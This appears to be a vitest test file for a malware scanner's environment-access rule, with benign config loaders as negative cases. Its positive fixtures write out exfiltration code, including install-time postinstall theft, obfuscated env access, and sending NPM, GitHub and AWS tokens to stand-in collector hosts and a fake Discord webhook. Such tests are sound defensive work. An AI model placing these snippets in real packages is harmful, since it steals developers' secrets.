import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'env-access';

describe('env-access reports', () => {
  test('JSON.stringify(process.env) posted with https.request is high and malicious', () => {
    const r = scanFiles({
      'index.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collector.invalid', method: 'POST', path: '/e' });\nreq.end(body);",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['source:env-bulk'], { line: 2, message: expect.stringContaining('JSON.stringify') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('iterating process.env with for-in is medium bulk access, malicious with a POST', () => {
    const r = scanFiles({
      'index.js': "const out = {};\nfor (const k in process.env) out[k] = process.env[k];\nfetch('https://collector.invalid/x', { method: 'POST', body: JSON.stringify(out) });",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['source:env-bulk'], { message: expect.stringContaining('iterates') }));
    expect(r.verdict).toBe('malicious');
  });

  test.each([
    ['Object.entries', "const data = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n');\nrequire('axios').post('https://collector.invalid/', data);"],
    ['aliased process and computed env', "const p = process; const e = p['en' + 'v'];\nconst b = Buffer.from(JSON.stringify(e)).toString('base64');\nrequire('https').get('https://collector.invalid/?d=' + b);"],
    ['Reflect.get(process, "env")', "const env = Reflect.get(process, 'env');\nrequire('https').get('https://collector.invalid/?k=' + encodeURIComponent(JSON.stringify(env)));"],
    ['destructured { env } = process', "const { env } = process;\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(env));"],
    ['globalThis.process.env', "const e = globalThis.process.env;\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(e));"],
  ])('the environment serialized via %s is high and malicious', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:env-bulk']));
    expect(r.verdict).toBe('malicious');
  });

  test('querystring.stringify(process.env) in a postinstall file is install-time exfiltration', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': "const q = require('querystring').stringify(process.env);\nrequire('http').get('http://collector.invalid/?' + q);",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['source:env-bulk'], { file: 'setup.js', reach: 'install' })]);
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test('secret-bearing variables are reported one by one at low, malicious when sent to a webhook', () => {
    const r = scanFiles({
      'index.js': "const t = process.env.NPM_TOKEN;\nconst g = process.env['GITHUB_TOKEN'];\nconst a = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://discord.com/api/webhooks/000000000000000000/fake-token', { method: 'POST', body: JSON.stringify({ content: [t, g, a].join(' ') }) });",
    });
    const secrets = r.of(RULE);
    expect(secrets.map((f) => f.message)).toEqual([
      expect.stringContaining('NPM_TOKEN'),
      expect.stringContaining('GITHUB_TOKEN'),
      expect.stringContaining('AWS_SECRET_ACCESS_KEY'),
    ]);
    for (const f of secrets) expect(f).toEqual(finding('low', ['source:env-secret']));
    expect(r.verdict).toBe('malicious');
  });

  test('spreading process.env into a plain object is a low bulk copy', () => {
    const r = scanFiles({ 'index.js': "module.exports = () => ({ ...process.env, when: Date.now() });" });
    expect(r.of(RULE)).toEqual([finding('low', ['source:env-bulk'])]);
  });

  const nested = { 'index.js': "fetch('https://collector.invalid/', { method: 'POST', body: JSON.stringify({ env: process.env, cwd: process.cwd() }) });" };
  const spreadCopy = { 'index.js': "const payload = { ...process.env, when: Date.now() };\nfetch('https://collector.invalid/', { method: 'POST', body: JSON.stringify(payload) });" };

  test.each([
    ['nested in an object', nested],
    ['spread into a copy', spreadCopy],
  ])('process.env %s, serialized and posted, makes the package malicious', (_label, files) => {
    expect(scanFiles(files).verdict).toBe('malicious');
  });

  test('process.env nested in an object and serialized is reported as bulk harvesting', () => {
    expect(scanFiles(nested).of(RULE)).toContainEqual(finding('high', ['source:env-bulk']));
  });

  test('a spread copy of process.env that is serialized is reported as bulk harvesting', () => {
    expect(scanFiles(spreadCopy).of(RULE)).toContainEqual(finding('high', ['source:env-bulk']));
  });
});

describe('env-access stays quiet', () => {
  test('a config loader reading NODE_ENV, PORT, LOG_LEVEL, DATABASE_URL and AUTH_TIMEOUT', () => {
    const r = scanFiles({
      'index.js': "const defaults = { level: 'info' };\nmodule.exports = function load() {\n  return { ...defaults, env: process.env.NODE_ENV || 'development', port: Number(process.env.PORT) || 3000, level: process.env.LOG_LEVEL || defaults.level, url: process.env.DATABASE_URL, timeout: process.env.AUTH_TIMEOUT, debug: process.env.DEBUG };\n};",
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('spawn with env: { ...process.env, FORCE_COLOR: "1" }', () => {
    const r = scanFiles({
      'index.js': "const { spawn } = require('child_process');\nmodule.exports = (cmd, args) => spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: '1' }, stdio: 'inherit' });",
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a child environment built in a variable and with Object.assign', () => {
    const r = scanFiles({
      'index.js': "const cp = require('child_process');\nconst childEnv = { ...process.env, NODE_OPTIONS: '--max-old-space-size=4096' };\nexports.build = () => cp.execFileSync('node', ['build.js'], { env: childEnv });\nexports.run = (cmd, args, vars) => cp.spawn(cmd, args, { env: Object.assign({}, process.env, vars), stdio: 'inherit' });",
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('reading one variable by a computed name, and setting variables (dotenv-style)', () => {
    const r = scanFiles({ 'index.js': "exports.get = (name) => process.env[name];\nexports.set = (k, v) => { if (!(k in process.env)) process.env[k] = v; };" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('an SDK reading its API key from the environment and sending it to its own host', () => {
    const r = scanFiles({
      'index.js': "class Client {\n  constructor(opts = {}) { this.apiKey = opts.apiKey ?? process.env.ACME_API_KEY; }\n  complete(prompt) {\n    return fetch('https://api.acme-ai.example/v1/complete', { method: 'POST', headers: { Authorization: `Bearer ${this.apiKey}` }, body: JSON.stringify({ prompt }) });\n  }\n}\nmodule.exports = Client;",
    });
    expect(r.of(RULE)).toEqual([finding('low', ['source:env-secret'], { message: expect.stringContaining('ACME_API_KEY') })]);
    expectAtMostLow(r.findings);
    expect(r.verdict).toBe('clean');
  });

  test('a GitHub Action reading GITHUB_TOKEN', () => {
    const r = scanFiles({ 'index.js': "const token = process.env.GITHUB_TOKEN;\nif (!token) throw new Error('GITHUB_TOKEN is required');\nmodule.exports = { headers: { authorization: 'token ' + token } };" });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('debug-style prefix-filtered env options in an HTTP client are not harvesting', () => {
    const r = scanFiles({
      'index.js': "const https = require('https');\nconst opts = Object.keys(process.env).filter((key) => /^acme_/i.test(key)).reduce((o, key) => { o[key.slice(5).toLowerCase()] = process.env[key]; return o; }, {});\nmodule.exports = (path) => https.request({ hostname: 'api.acme.example', path, timeout: Number(opts.timeout) || 5000 });",
    });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('a prefix filter is recognized however long the file before it (info, not enumeration)', () => {
    const header = '/* ' + 'documentation of the options. '.repeat(300) + '*/\n';
    const r = scanFiles({ 'index.js': header + "exports.opts = Object.keys(process.env).filter((key) => { return /^debug_/i.test(key); });" });
    expect(r.of(RULE).map((f) => f.severity)).toEqual(['info']);
  });
});
